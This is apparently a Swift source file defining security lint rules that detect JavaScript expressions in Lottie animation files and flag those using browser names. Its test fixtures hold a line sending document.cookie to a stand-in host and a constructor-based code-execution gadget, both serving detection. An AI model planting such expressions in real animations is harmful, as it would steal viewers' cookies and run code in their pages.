internal import PegbarDiagnostics
internal import PegbarLottie

extension Rule {
  /// The file holds code.
  static let expressionCode = Rule(
    .rule(
      "sec/expression", .note,
      Words(
        title: "The file holds code",
        meaning: """
          Expressions are JavaScript. lottie-web runs them in the page that shows the animation, \
          with everything that the page may do.
          """,
        effect: "Whoever made the file can run code in the page or app that plays it.",
        wayOut: """
          Convert expressions with Animation > Keyframe Assistant > Convert Expression to Keyframes, \
          or play files from others with the light version of lottie-web, which runs none.
          """)),
    found: [.layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var $bm_rt; $bm_rt = time * 90;"}}"#)],
    silent: [.layer(#""ks": {"r": {"a": 0, "k": 90}}"#)],
    check: .document { run in
      let count = run.census.expressions
      guard count > 0 else { return }
      var search = FirstExpression()
      search.walk(over: run.document)
      run.report(
        "\(count) \(count == 1 ? "expression is" : "expressions are") code that a web player runs; "
          + "the first one stands here", at: search.place ?? .root)
    })

  /// An expression uses what no animation needs.
  static let expressionSuspicious = Rule(
    .rule(
      "sec/expression-suspicious", .error,
      Words(
        title: "An expression does more than animate",
        meaning: """
          The expression uses a name that After Effects does not have, but browsers do: for the \
          page, for the network, or to run text as code.
          """,
        effect: "It may read what the page shows and send it elsewhere.",
        wayOut: "Do not play the file. Ask its author what the expression is for, or delete it.")),
    found: [
      .layer(
        #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
      .layer(
        #""ks": {"r": {"a": 0, "k": 0, "x": "[]['constructor']['constructor']('return 1')()"}}"#),
    ],
    silent: [
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var $bm_rt; $bm_rt = time * 90;"}}"#),
      // Names of its own, members, texts and comments.
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var window = 5; window * time"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "thisComp.layer('fetch').document"}}"#),
      .layer(#""ks": {"r": {"a": 0, "k": 0, "x": "// eval it\n/* window */ time"}}"#),
    ],
    check: .several([
      .property { property, run in
        guard let expression = property.expression else { return }
        run.reportSuspicious(expression, at: property.source)
      },
      .text { text, run in
        for selector in text.animators.lazy.flatMap(\.selectors) {
          guard let expression = selector.expression else { continue }
          run.reportSuspicious(expression, at: selector.source)
        }
      },
    ]))
}

extension RuleRun {
  fileprivate func reportSuspicious(_ expression: String, at source: SourceID) {
    var words = ScriptWords(expression)
    guard let word = words.firstSuspicious() else { return }
    report("the expression uses '\(word)', which no animation needs", at: source)
  }
}

/// Finds the first property that an expression computes.
private struct FirstExpression: DocumentVisitor {
  var isShown = true
  private(set) var place: SourceID?

  mutating func visit(_ property: some DocumentProperty) {
    if place == nil, property.expression != nil { place = property.source }
  }
}
